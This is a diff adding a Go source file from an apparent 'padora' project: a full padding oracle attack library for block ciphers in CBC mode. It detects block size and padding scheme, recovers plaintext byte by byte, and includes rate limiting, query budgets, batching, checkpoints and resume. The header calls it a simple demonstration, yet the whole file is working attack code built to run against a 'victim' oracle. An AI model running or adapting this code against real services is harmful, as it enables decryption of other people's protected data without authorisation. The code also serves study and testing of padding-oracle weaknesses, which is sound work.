@@ -0,0 +1,777 @@
+//
+// SPDX-FileCopyrightText: Copyright 2024 Frank Schwab
+//
+// SPDX-License-Identifier: Apache-2.0
+//
+// SPDX-FileType: SOURCE
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may not use this file except in compliance with the License.
+//
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// Author: Frank Schwab
+//
+// Version: 2.10.2
+//
+// Change history:
+//    2024-06-21: V1.0.0: Created.
+//    2024-08-28: V1.0.1: Rename variable to better reflect its meaning.
+//    2024-08-29: V1.1.0: Show progress information.
+//    2026-10-18: V1.2.0: Ask a padding oracle instead of the victim directly.
+//    2026-10-18: V1.3.0: Support several padding schemes and detect block size and padding scheme.
+//    2026-10-18: V1.4.0: Go back to the following byte, if a byte can not be solved.
+//    2026-10-18: V1.5.0: Add context, query budget, rate limit and query timeout.
+//    2026-10-18: V1.6.0: Write checkpoints and resume from them.
+//    2026-10-18: V2.0.0: Moved to package attack.
+//    2026-10-18: V2.1.0: Report progress by events instead of printing it.
+//    2026-10-18: V2.2.0: Return the intermediate decryption state with the result.
+//    2026-10-18: V2.3.0: Crack only selected blocks and stop at a known prefix.
+//    2026-10-18: V2.4.0: Verify known plaintext bytes instead of guessing them.
+//    2026-10-18: V2.5.0: Take the padding bytes of the last block from its detected length.
+//    2026-10-18: V2.6.0: Send guesses in batches.
+//    2026-10-18: V2.7.0: Confirm the intermediate bytes of a checkpoint before resuming.
+//    2026-10-18: V2.8.0: Confirm the guess for the first byte of a block by asking again.
+//    2026-10-18: V2.9.0: Guess the padding bytes, if the padding length is not confirmed, and return the recovered bytes on errors.
+//    2026-10-18: V2.10.0: Check the block selection before the detection.
+//    2026-10-18: V2.10.1: Handle a query that fails after all retries like a lost answer.
+//    2026-10-18: V2.10.2: Check the error of a batch before confirming its guesses.
+//
+
+// This file contains the cracker functions that perform a padding oracle attack
+// on data encrypted with a block cipher in CBC mode.
+//
+// The padding scheme determines which bytes are forced upon the end of the modified message.
+// If the receiver only checks the last byte of the padding, only the last byte of every block can be recovered.
+//
+// It implements a very simple version of a padding oracle attack,
+// just to show how such an attack works in principle.
+
+// Package attack implements the padding oracle attack on messages encrypted with a block cipher in CBC mode.
+package attack
+
+import (
+	"context"
+	"errors"
+	"padora/oracle"
+	"padora/padding"
+	"slices"
+)
+
+// ======== Public types ========
+
+// Result is the result of cracking an encrypted message.
+type Result struct {
+	// ClearMessage is the recovered clear message without the padding.
+	// If cracking has been stopped or has failed while cracking a block, it is the padded message,
+	// of which only the bytes from RecoveredFrom on have been recovered.
+	// If only the last bytes of the blocks could be recovered, it is the padded message with all other bytes set to zero.
+	// If only selected blocks have been cracked, it is the padded message with the bytes of the other blocks set to zero.
+	ClearMessage []byte
+	// State is the intermediate decryption state of all blocks that have been recovered completely.
+	State *IntermediateState
+	// RecoveredFrom is the index of the first recovered byte of the padded message,
+	// if cracking has been stopped or has failed while cracking a block.
+	RecoveredFrom int
+	// PaddingLength is the length of the padding.
+	// It is 0, if the last block has not been recovered.
+	PaddingLength int
+	// QueryCount is the number of queries.
+	QueryCount int
+	// VerifiedCount is the number of known bytes that have been verified instead of guessed.
+	VerifiedCount int
+	// SavedQueryCount is the number of queries that guessing the verified bytes would have needed in addition.
+	SavedQueryCount int
+}
+
+// ======== Private constants ========
+
+// maxScansPerByte is the number of times all guesses for a byte are tried before going back to the following byte.
+const maxScansPerByte = 2
+
+// maxBacktracksPerBlock is the maximum number of times cracking a block may go back to a following byte.
+const maxBacktracksPerBlock = 64
+
+// ======== Public variables ========
+
+// ErrOnlyLastBytes signals that only the last byte of every block could be recovered,
+// because the receiver only checks the last byte of the padding.
+var ErrOnlyLastBytes = errors.New(`padding is checked leniently, only the last byte of every block could be recovered`)
+
+// ErrUnsolvableByte signals that no guess for a byte led to a valid padding,
+// even after going back to the following bytes.
+var ErrUnsolvableByte = errors.New(`no guess for a byte led to a valid padding`)
+
+// ======== Public function ========
+
+// CrackAutomatically detects the block size and the padding scheme and then cracks an encrypted message.
+// The query count of the result includes the calls needed for the detection.
+// The limits of the options apply to the detection and the cracking together.
+// If cracking is resumed from a checkpoint, the block size and the padding scheme are taken from it.
+func CrackAutomatically(
+	ctx context.Context,
+	oracle oracle.PaddingOracle,
+	encryptedMessage []byte,
+	options Options) (*Result, error) {
+	if options.Resume != nil {
+		scheme, err := options.Resume.Scheme()
+		if err != nil {
+			return &Result{}, err
+		}
+
+		return Crack(ctx, oracle, encryptedMessage, options.Resume.BlockSize, scheme, options)
+	}
+
+	// The selected blocks have to exist for the smallest block size before anything is detected
+	// and for the detected block size before the padding scheme is detected.
+	if err := CheckBlockSelection(options.Blocks, len(encryptedMessage)/minDetectBlockSize); err != nil {
+		return &Result{}, err
+	}
+
+	limitedOracle := NewLimitedPaddingOracle(ctx, oracle, options)
+	blockSize, count, err := DetectBlockSize(limitedOracle, encryptedMessage)
+	if err != nil {
+		return &Result{QueryCount: limitedOracle.QueryCount()},
+			wrapDetectionError(err, limitedOracle.QueryCount(), len(encryptedMessage))
+	}
+
+	if err = CheckBlockSelection(options.Blocks, len(encryptedMessage)/blockSize); err != nil {
+		return &Result{QueryCount: limitedOracle.QueryCount()}, err
+	}
+
+	scheme, schemeCount, err := DetectPaddingScheme(limitedOracle, encryptedMessage, blockSize)
+	count += schemeCount
+	if err != nil {
+		return &Result{QueryCount: limitedOracle.QueryCount()},
+			wrapDetectionError(err, limitedOracle.QueryCount(), len(encryptedMessage)-blockSize)
+	}
+
+	sendEvent(options.Observers, Event{
+		Kind:       EventDetected,
+		QueryCount: count,
+		BlockSize:  blockSize,
+		Scheme:     scheme,
+	})
+
+	// The limited oracle already enforces the limits for the detection and the cracking.
+	// The checkpoint starts with the queries of the detection.
+	checkpoint := newCheckpoint(encryptedMessage, blockSize, scheme)
+	checkpoint.QueryCount = count
+	crackOptions := options
+	crackOptions.MaxQueries = 0
+	crackOptions.QueriesPerSecond = 0
+	crackOptions.QueryTimeout = 0
+	crackOptions.Resume = checkpoint
+	result, err := Crack(ctx, limitedOracle, encryptedMessage, blockSize, scheme, crackOptions)
+	var stoppedError *StoppedError
+	if errors.As(err, &stoppedError) {
+		stoppedError.QueryCount = limitedOracle.QueryCount()
+		result.QueryCount = stoppedError.QueryCount
+		return result, err
+	}
+
+	result.QueryCount += count
+	return result, err
+}
+
+// Crack cracks an encrypted message with a CBC padding oracle for the given padding scheme.
+// The result contains the clear message and the intermediate decryption state of the blocks.
+// It is never nil, so that the query count is also available, if an error is returned.
+// A query that fails with [oracle.ErrTransientFailure] is treated like a lost answer.
+// If the oracle returns another error or a byte can not be solved, cracking stops and the error is returned
+// together with the bytes that have been recovered so far.
+// If cracking is stopped by the context or a limit of the options, the padded message is returned
+// together with a [StoppedError] that tells which of its bytes have been recovered so far.
+// If a checkpoint file is specified in the options, the progress is written to it periodically
+// and when cracking ends. If a checkpoint to resume from is specified, cracking continues from it,
+// after the oracle has confirmed its intermediate bytes.
+// Checkpoints are not supported for lenient padding.
+// If blocks are selected in the options, only these blocks are cracked.
+// If a known prefix is specified in the options, cracking stops as soon as only the prefix is left.
+// If a known plaintext is specified in the options, its bytes are verified instead of guessed.
+func Crack(
+	ctx context.Context,
+	oracle oracle.PaddingOracle,
+	encryptedMessage []byte,
+	blockSize int,
+	scheme padding.Scheme,
+	options Options) (*Result, error) {
+	limitedOracle := NewLimitedPaddingOracle(ctx, oracle, options)
+	oracle = limitedOracle
+
+	baseCount := 0
+	if options.Resume != nil {
+		baseCount = options.Resume.QueryCount
+	}
+
+	events := newEventSender(options.Observers, baseCount, limitedOracle)
+
+	blockCount := len(encryptedMessage) / blockSize
+	if err := CheckBlockSelection(options.Blocks, blockCount); err != nil {
+		return &Result{}, err
+	}
+
+	verifier, err := newKnownPlaintextVerifier(options.KnownPlaintext)
+	if err != nil {
+		return &Result{}, err
+	}
+
+	if scheme.Tail(1) == nil {
+		return crackLastBytes(limitedOracle, encryptedMessage, blockSize, options, events)
+	}
+
+	checkpoint := options.Resume
+	count := 0
+	if checkpoint == nil {
+		checkpoint = newCheckpoint(encryptedMessage, blockSize, scheme)
+	} else {
+		if err := checkpoint.checkMatch(encryptedMessage, blockSize, scheme); err != nil {
+			return &Result{}, err
+		}
+
+		// The victim has to use the same key as in the run that wrote the checkpoint.
+		count, err = checkpoint.confirm(oracle, encryptedMessage, scheme)
+		if err != nil {
+			return &Result{QueryCount: count}, err
+		}
+	}
+
+	checkpoints := newCheckpointWriter(checkpoint, options, limitedOracle)
+
+	result := make([]byte, len(encryptedMessage)-blockSize)
+
+	// Clone the encrypted message into a buffer that can be manipulated.
+	modifiedMessage := slices.Clone(encryptedMessage)
+
+	// recovered tells for every block whether it has been recovered completely.
+	recovered := make([]bool, blockCount)
+
+	// Take the blocks that have already been cracked from the checkpoint.
+	firstStart := checkpoint.CurrentBlock * blockSize
+	for start := len(encryptedMessage) - blockSize; start > firstStart; start -= blockSize {
+		previousOriginalBlock := encryptedMessage[start-blockSize : start]
+		intermediate := checkpoint.intermediate(start / blockSize)
+		for i, b := range intermediate {
+			result[start-blockSize+i] = b ^ previousOriginalBlock[i]
+		}
+
+		recovered[start/blockSize] = intermediate != nil
+	}
+
+	// The known prefix does not need to be cracked.
+	knownLength := min(len(options.KnownPrefix), len(result))
+	copy(result, options.KnownPrefix[:knownLength])
+	for i := 1; i*blockSize <= knownLength; i++ {
+		recovered[i] = true
+	}
+
+	// Loop through the message block by block, beginning at the last one.
+	// The first block (start: 0) is not cracked for two reasons:
+	// 1. It is the first block and as such it does not have a previous block,
+	//    that can be manipulated,
+	// 2. It is the initialization vector and not encrypted data.
+	var previousOriginalBlock []byte
+	var previousModifiedBlock []byte
+	crackedBlock := make([]byte, blockSize)
+	startPos := checkpoint.CurrentPos
+	for start := firstStart; start > knownLength; start -= blockSize {
+		blockIndex := start / blockSize
+		if !options.selectsBlock(blockIndex) {
+			startPos = blockSize - 1
+			continue
+		}
+
+		// The bytes up to knownPos belong to the known prefix.
+		blockOffset := start - blockSize
+		knownPos := max(knownLength-blockOffset, 0) - 1
+		copy(crackedBlock, result[blockOffset:blockOffset+knownPos+1])
+
+		// Prepare two slices that each point to the block before the current block, as this
+		// is the one that is manipulated in this attack.
+		previousOriginalBlock = encryptedMessage[start-blockSize : start]
+		previousModifiedBlock = modifiedMessage[start-blockSize : start]
+
+		// Take the bytes of the current block that have already been cracked from the checkpoint.
+		if intermediate := checkpoint.intermediate(blockIndex); intermediate != nil {
+			for i := startPos + 1; i < blockSize; i++ {
+				crackedBlock[i] = intermediate[i] ^ previousOriginalBlock[i]
+			}
+		}
+
+		events.blockStarted(blockIndex)
+		blockQueryCount, firstSolvedPos, err := crackBlock(oracle,
+			modifiedMessage,
+			previousOriginalBlock,
+			previousModifiedBlock,
+			crackedBlock,
+			blockSize,
+			start,
+			startPos,
+			knownPos,
+			scheme,
+			verifier,
+			options.BatchSize,
+			checkpoints,
+			events)
+		count += blockQueryCount
+		if err != nil {
+			// Return the bytes that have been recovered so far.
+			recoveredFrom := blockOffset + firstSolvedPos
+			copy(result[recoveredFrom:], crackedBlock[firstSolvedPos:])
+			_ = checkpoints.save()
+			partialResult := &Result{
+				ClearMessage:    result,
+				State:           newIntermediateState(encryptedMessage, blockSize, result, recovered),
+				RecoveredFrom:   recoveredFrom,
+				PaddingLength:   getPaddingLength(result, blockSize, scheme, recovered),
+				QueryCount:      limitedOracle.QueryCount(),
+				VerifiedCount:   verifier.verifiedCount,
+				SavedQueryCount: verifier.savedCount,
+			}
+			if !isStopCause(err) {
+				return partialResult, err
+			}
+
+			return partialResult, &StoppedError{
+				Cause:         err,
+				QueryCount:    limitedOracle.QueryCount(),
+				RecoveredFrom: recoveredFrom,
+				PaddedLength:  len(result),
+			}
+		}
+
+		copy(result[blockOffset:], crackedBlock)
+		recovered[blockIndex] = true
+		startPos = blockSize - 1
+
+		events.blockFinished()
+	}
+
+	if err := checkpoints.save(); err != nil {
+		return &Result{QueryCount: count}, err
+	}
+
+	state := newIntermediateState(encryptedMessage, blockSize, result, recovered)
+	paddingLength := getPaddingLength(result, blockSize, scheme, recovered)
+	if !slices.Contains(recovered[1:], false) {
+		result, _ = scheme.Unpad(result, blockSize)
+	}
+
+	return &Result{
+		ClearMessage:    result,
+		State:           state,
+		PaddingLength:   paddingLength,
+		QueryCount:      count,
+		VerifiedCount:   verifier.verifiedCount,
+		SavedQueryCount: verifier.savedCount,
+	}, nil
+}
+
+// crackLastBytes recovers the last byte of every block with an oracle that only checks
+// the last byte of a PKCS#7 padding.
+// The last byte is valid, if it has a value between 1 and the block size.
+// The set of the modifications that produce a valid last byte identifies its value.
+// The other bytes can not be recovered and are returned as zeros.
+func crackLastBytes(
+	oracle *LimitedPaddingOracle,
+	encryptedMessage []byte,
+	blockSize int,
+	options Options,
+	events *eventSender) (*Result, error) {
+	result := make([]byte, len(encryptedMessage)-blockSize)
+	recovered := make([]bool, len(encryptedMessage)/blockSize)
+	count := 0
+
+	validModifications := make([]byte, 0, 256)
+	for start := len(encryptedMessage) - blockSize; start >= blockSize; start -= blockSize {
+		if !options.selectsBlock(start / blockSize) {
+			continue
+		}
+
+		events.blockStarted(start / blockSize)
+		modifiedMessage := slices.Clone(encryptedMessage[start-blockSize : start+blockSize])
+		lastPos := blockSize - 1
+
+		validModifications = validModifications[:0]
+		for modification := 0; modification < 256; modification++ {
+			modifiedMessage[lastPos] = encryptedMessage[start-1] ^ byte(modification)
+			count++
+			isValid, err := oracle.HasValidPadding(modifiedMessage)
+			if isStopCause(err) {
+				return &Result{
+					ClearMessage: result,
+					State:        newIntermediateState(encryptedMessage, blockSize, result, recovered),
+					QueryCount:   oracle.QueryCount(),
+				}, &StoppedError{
+					Cause:         err,
+					QueryCount:    oracle.QueryCount(),
+					RecoveredFrom: start,
+					PaddedLength:  len(result),
+				}
+			}
+
+			if err != nil {
+				return &Result{QueryCount: count}, err
+			}
+
+			if isValid {
+				validModifications = append(validModifications, byte(modification))
+			}
+		}
+
+		// The modified last byte is the clear byte XOR the modification.
+		for value := 0; value < 256; value++ {
+			if isLenientValueConsistent(byte(value), validModifications, blockSize) {
+				result[start-1] = byte(value)
+				events.byteRecovered(lastPos, byte(value))
+				break
+			}
+		}
+
+		events.blockFinished()
+	}
+
+	return &Result{
+		ClearMessage: result,
+		State:        newIntermediateState(encryptedMessage, blockSize, result, recovered),
+		QueryCount:   count,
+	}, ErrOnlyLastBytes
+}
+
+// isLenientValueConsistent checks whether a clear byte leads to exactly the valid modifications.
+func isLenientValueConsistent(value byte, validModifications []byte, blockSize int) bool {
+	if len(validModifications) != blockSize {
+		return false
+	}
+
+	for _, modification := range validModifications {
+		modifiedValue := int(value ^ modification)
+		if modifiedValue == 0 || modifiedValue > blockSize {
+			return false
+		}
+	}
+
+	return true
+}
+
+// wrapDetectionError wraps an error of the detection in a [StoppedError], if it is caused by a limit.
+func wrapDetectionError(err error, count int, paddedLength int) error {
+	if !isStopCause(err) {
+		return err
+	}
+
+	return &StoppedError{
+		Cause:         err,
+		QueryCount:    count,
+		RecoveredFrom: paddedLength,
+		PaddedLength:  paddedLength,
+	}
+}
+
+// crackBlock cracks one block.
+// Cracking starts at position startPos, all bytes after it have already been cracked.
+// Cracking ends after position knownPos + 1, all bytes up to knownPos are known.
+// Bytes of the known plaintext are verified before they are guessed.
+// If the block is the last one, the length of its padding is detected first and the padding bytes are taken as cracked.
+// It returns the number of oracle calls and the position of the first solved byte.
+func crackBlock(
+	oracle oracle.PaddingOracle,
+	modifiedMessage []byte,
+	previousOriginalBlock []byte,
+	previousModifiedBlock []byte,
+	crackedBlock []byte,
+	blockSize int,
+	start int,
+	startPos int,
+	knownPos int,
+	scheme padding.Scheme,
+	verifier *knownPlaintextVerifier,
+	batchSize int,
+	checkpoints *checkpointWriter,
+	events *eventSender) (int, int, error) {
+	isLastBlock := len(modifiedMessage) == start+blockSize
+
+	// Shorten the modified message so that the block we want to crack is the last block.
+	modifiedMessage = modifiedMessage[:start+blockSize]
+
+	// rejectedGuesses contains the guesses that are known to be wrong for every position.
+	// A guess is rejected, if it made the next byte unsolvable.
+	rejectedGuesses := make([][256]bool, blockSize)
+	failedScans := 0
+	backtrackCount := 0
+
+	count := 0
+	pos := startPos
+
+	// The padding bytes of the last block do not need to be guessed, as soon as the padding length is known.
+	if isLastBlock && pos == blockSize-1 {
+		// If the padding length can not be confirmed, the padding bytes are guessed like all other bytes.
+		paddingLength, lengthCount, err := DetectPaddingLength(oracle, modifiedMessage, blockSize)
+		count += lengthCount
+		if err != nil && !errors.Is(err, ErrPaddingLengthNotDetected) && !isLostAnswer(err) {
+			return count, pos + 1, err
+		}
+
+		paddingLength = min(paddingLength, pos-knownPos)
+		if paddingLength > 0 {
+			copy(crackedBlock[blockSize-paddingLength:], scheme.Tail(paddingLength))
+			for ; pos >= blockSize-paddingLength; pos-- {
+				events.byteRecovered(pos, crackedBlock[pos])
+			}
+
+			if err = checkpoints.update(start/blockSize, pos, previousOriginalBlock, crackedBlock); err != nil {
+				return count, pos + 1, err
+			}
+		}
+	}
+
+	for pos > knownPos {
+		// This is the padding that is forced upon the end of the modified message.
+		wantedPadding := scheme.Tail(blockSize - pos)
+
+		// 1. Set all encrypted bytes following the current byte so that they are
+		//    decrypted to the rest of [wantedPadding].
+		prepareKnownPadding(
+			previousOriginalBlock,
+			previousModifiedBlock,
+			crackedBlock,
+			pos,
+			blockSize,
+			wantedPadding)
+
+		// 2. Verify the known value of the current byte or guess it.
+		foundValue, guessCount, err := verifier.verifyValue(
+			oracle,
+			modifiedMessage,
+			previousOriginalBlock,
+			previousModifiedBlock,
+			crackedBlock,
+			start-blockSize+pos,
+			pos,
+			wantedPadding[0],
+			&rejectedGuesses[pos])
+		if err == nil && !foundValue {
+			var scanCount int
+			foundValue, scanCount, err = guessValue(
+				oracle,
+				modifiedMessage,
+				previousOriginalBlock,
+				previousModifiedBlock,
+				crackedBlock,
+				pos,
+				wantedPadding[0],
+				&rejectedGuesses[pos],
+				batchSize,
+				events)
+			guessCount += scanCount
+		}
+
+		count += guessCount
+		if err != nil && !isLostAnswer(err) {
+			return count, pos + 1, err
+		}
+
+		if foundValue {
+			events.byteRecovered(pos, crackedBlock[pos])
+			failedScans = 0
+			pos--
+			if err = checkpoints.update(start/blockSize, pos, previousOriginalBlock, crackedBlock); err != nil {
+				return count, pos + 1, err
+			}
+
+			continue
+		}
+
+		// 3. No guess led to a valid padding or the oracle failed to answer even after retrying.
+		//    With a noisy oracle the answer for the correct guess may have been lost, so scan again.
+		//    If this does not help, a following byte is probably wrong, so go back to it.
+		failedScans++
+		if failedScans < maxScansPerByte {
+			continue
+		}
+
+		failedScans = 0
+		backtrackCount++
+		if backtrackCount > maxBacktracksPerBlock {
+			return count, pos + 1, ErrUnsolvableByte
+		}
+
+		// If guesses for this byte have been rejected, the rejection may have been wrong, so try them again.
+		// The last byte of a block has no following byte, so it is just scanned again.
+		switch {
+		case rejectedGuesses[pos] != [256]bool{}:
+			rejectedGuesses[pos] = [256]bool{}
+
+		case pos < blockSize-1:
+			pos++
+			rejectedGuesses[pos][crackedBlock[pos]] = true
+			events.falsePositiveRejected(pos, crackedBlock[pos])
+		}
+	}
+
+	// Restore previous modified block to contain the original data again.
+	// It is the next block to be attacked, so the original content is needed.
+	copy(previousModifiedBlock, previousOriginalBlock)
+
+	return count, knownPos + 1, nil
+}
+
+// isLostAnswer checks, if an error only means that an answer of the oracle is missing.
+// A query that still fails after all retries is treated like a false answer,
+// so the byte is scanned again or a following byte is cracked again.
+func isLostAnswer(err error) bool {
+	return errors.Is(err, oracle.ErrTransientFailure)
+}
+
+// prepareKnownPadding sets the bytes following the current byte
+// so that they are decrypted to the wanted valid padding bytes.
+func prepareKnownPadding(
+	previousOriginalBlock []byte,
+	previousModifiedBlock []byte,
+	crackedBlock []byte,
+	pos int,
+	blockSize int,
+	wantedPadding []byte) {
+	for preparePos := pos + 1; preparePos < blockSize; preparePos++ {
+		previousModifiedBlock[preparePos] = previousOriginalBlock[preparePos] ^
+			crackedBlock[preparePos] ^
+			wantedPadding[preparePos-pos]
+	}
+}
+
+// guessValue finds the correct byte by guessing it and asking the padding oracle,
+// if the guess is correct.
+// Guesses that have been rejected before are skipped.
+// If the batch size is greater than 1, the guesses are sent in batches.
+// It returns whether a value for the byte has been found.
+func guessValue(
+	paddingOracle oracle.PaddingOracle,
+	modifiedMessage []byte,
+	previousOriginalBlock []byte,
+	previousModifiedBlock []byte,
+	crackedBlock []byte,
+	pos int,
+	wantedPaddingByte byte,
+	rejectedGuesses *[256]bool,
+	batchSize int,
+	events *eventSender) (bool, int, error) {
+	guesses := make([]byte, 0, 256)
+	for guess := 0; guess < 256; guess++ {
+		if !rejectedGuesses[guess] {
+			guesses = append(guesses, byte(guess))
+		}
+	}
+
+	count := 0
+	for len(guesses) > 0 {
+		batch := guesses[:min(max(batchSize, 1), len(guesses))]
+		validities, err := askGuesses(paddingOracle,
+			modifiedMessage,
+			previousOriginalBlock,
+			previousModifiedBlock,
+			pos,
+			wantedPaddingByte,
+			batch)
+		count += len(validities)
+		if err != nil {
+			// The answers before the failed query are not confirmed, as the guesses after it are missing anyway.
+			return false, count, err
+		}
+
+		guesses = guesses[len(validities):]
+
+		for i, isValid := range validities {
+			if !isValid {
+				continue
+			}
+
+			// There was no padding error, so this is a candidate.
+			// However, sometimes this is a match that is caused by the byte before the current one.
+			// E.g., if we try to force a 0x01 in the last byte and the second-to-last byte
+			// is a 0x02 and our guess produces a 0x02, this is a valid padding, but not the intended one.
+			// Disturb the byte before the current one to check, if the match still holds.
+			// This also rejects the guess that leaves the last block unchanged and so keeps its original padding.
+			// The first byte has no byte before it, so it can only be a false answer of a noisy oracle.
+			// Then the same question is asked again to confirm the guess.
+			guessByte := batch[i]
+			previousModifiedBlock[pos] = previousOriginalBlock[pos] ^
+				guessByte ^
+				wantedPaddingByte
+			if pos > 0 {
+				previousModifiedBlock[pos-1] ^= 0xff
+			}
+
+			count++
+			isConfirmed, confirmErr := paddingOracle.HasValidPadding(modifiedMessage)
+			if confirmErr != nil {
+				return false, count, confirmErr
+			}
+
+			if !isConfirmed {
+				// Disturbing the byte before this one or asking again gave a padding error.
+				// So this was an accidental match caused by the previous byte or a false answer.
+				events.falsePositiveRejected(pos, guessByte)
+				continue
+			}
+
+			// It was a real match!
+			crackedBlock[pos] = guessByte
+			return true, count, nil
+		}
+	}
+
+	return false, count, nil
+}
+
+// askGuesses asks the padding oracle for every guess of a batch, whether it leads to a valid padding.
+// A single guess is asked with the modified message itself,
+// several guesses are asked at once with a copy of the modified message for every guess.
+// If an error occurs, the answers for the guesses before it are returned together with the error.
+func askGuesses(
+	paddingOracle oracle.PaddingOracle,
+	modifiedMessage []byte,
+	previousOriginalBlock []byte,
+	previousModifiedBlock []byte,
+	pos int,
+	wantedPaddingByte byte,
+	batch []byte) ([]bool, error) {
+	batchOracle, isBatchOracle := paddingOracle.(oracle.BatchPaddingOracle)
+	if len(batch) == 1 || !isBatchOracle {
+		result := make([]bool, 0, len(batch))
+		for _, guessByte := range batch {
+			// This is the modification of the previous block that modifies the decryption
+			// of the current block.
+			previousModifiedBlock[pos] = previousOriginalBlock[pos] ^
+				guessByte ^
+				wantedPaddingByte
+
+			// Now ask the oracle: Did we construct a valid padding?
+			isValid, err := paddingOracle.HasValidPadding(modifiedMessage)
+			if err != nil {
+				return result, err
+			}
+
+			result = append(result, isValid)
+		}
+
+		return result, nil
+	}
+
+	messages := make([][]byte, len(batch))
+	for i, guessByte := range batch {
+		previousModifiedBlock[pos] = previousOriginalBlock[pos] ^
+			guessByte ^
+			wantedPaddingByte
+		messages[i] = slices.Clone(modifiedMessage)
+	}
+
+	return batchOracle.HasValidPaddings(messages)
+}